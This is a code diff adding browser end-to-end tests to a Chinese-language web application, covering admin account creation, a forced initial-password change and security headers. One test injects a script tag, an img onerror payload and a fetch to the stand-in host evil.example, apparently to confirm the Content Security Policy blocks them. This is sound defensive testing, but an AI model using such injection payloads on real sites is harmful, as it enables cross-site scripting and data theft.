@@ -10,7 +10,7 @@ from etl.accounts import Account
 from etl.actor import operator
 from tests import tiny
 from tests.e2e.conftest import ROOT, serving
-from tests.e2e.test_journeys import heading, takes_role
+from tests.e2e.test_journeys import heading, takes_role, write
 
 
 @pytest.fixture
@@ -85,6 +85,33 @@ def test_a_reporter_comes_in_stays_through_a_reload_and_is_signed_out_elsewhere(
     ]  # fmt: skip
 
 
+def test_an_administrator_makes_an_account_and_its_holder_comes_in(house, visitor):
+    server, database = house
+    page = visitor("zh")
+    signs_in(page, server, *tiny.account(database, "administrator", name="管理员"))
+    page.get_by_role("link", name="管理", exact=True).click()
+    heading(page, "管理")
+    page.get_by_text("建立账号").first.click()
+    write(page, "账号", "li.si")
+    write(page, "姓名", "李四")
+    page.get_by_text("协调员", exact=True).first.click()
+    page.get_by_role("button", name="建立", exact=True).click()
+    password = page.locator("code").inner_text()
+    expect(page.locator("table.list").first).to_contain_text("李四")
+
+    other = visitor("zh")
+    signs_in(other, server, "li.si", password)
+    expect(other.get_by_text("请先修改初始密码")).to_be_visible()
+    other.get_by_label("原密码").fill(password)
+    other.get_by_label("新密码（至少10个字符）").fill("my-own-password")
+    other.get_by_label("再次输入新密码").fill("my-own-password")
+    other.get_by_role("button", name="修改密码").click()
+    expect(other.get_by_role("link", name="李四 · 协调员")).to_be_visible()
+    expect(other.get_by_role("link", name="管理", exact=True)).to_have_count(0)
+    other.goto(f"{server}/admin")
+    expect(other.get_by_text("管理账号须由管理员操作")).to_be_visible()
+
+
 def test_any_role_can_be_taken_in_the_demonstration(server, visitor):
     page = visitor("zh")
     page.goto(f"{server}/submissions?period=2023-08")
@@ -114,3 +141,44 @@ def test_after_signing_in_nobody_is_led_elsewhere(house, visitor, there):
     page.get_by_role("button", name="登录").click()
     expect(page.get_by_role("link", name="张三 · 浏览者")).to_be_visible()
     assert page.url.startswith(server)
+
+
+def test_no_script_runs_that_is_not_the_programs_own(server, browser):
+    """Written into a page as by somebody whose words were not escaped: the browser refuses it."""
+    context = browser.new_context(locale="zh-CN")
+    page = context.new_page()
+    page.goto(f"{server}/tasks")
+    heading(page, "任务")
+    page.evaluate("""() => {
+        const script = document.createElement("script");
+        script.textContent = "window.stolen = 1";
+        document.body.append(script);
+        const image = document.createElement("div");
+        image.innerHTML = '<img src="x" onerror="window.stolen = 2">';
+        document.body.append(image);
+    }""")
+    page.wait_for_timeout(500)
+    assert page.evaluate("window.stolen ?? null") is None
+    assert page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')") == "refused"
+    context.close()
+
+
+def test_every_answer_says_what_to_refuse(server, browser):
+    context = browser.new_context(locale="zh-CN")
+    for path, kind in {
+        "/": "text/html",
+        "/account": "text/html",
+        "/newest-revision": "text/plain",
+        "/download/none.csv": "",
+    }.items():
+        headers = context.request.get(f"{server}{path}", headers={"accept": "text/html"}).headers
+        assert headers["x-content-type-options"] == "nosniff"
+        assert headers["referrer-policy"] == "same-origin"
+        policy = headers["content-security-policy"]
+        if kind == "text/html":
+            assert "frame-ancestors 'self'" in policy
+            assert "script-src 'self' 'sha256-" in policy
+            assert "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
+        else:
+            assert policy == "default-src 'none'; frame-ancestors 'none'; sandbox"
+    context.close()
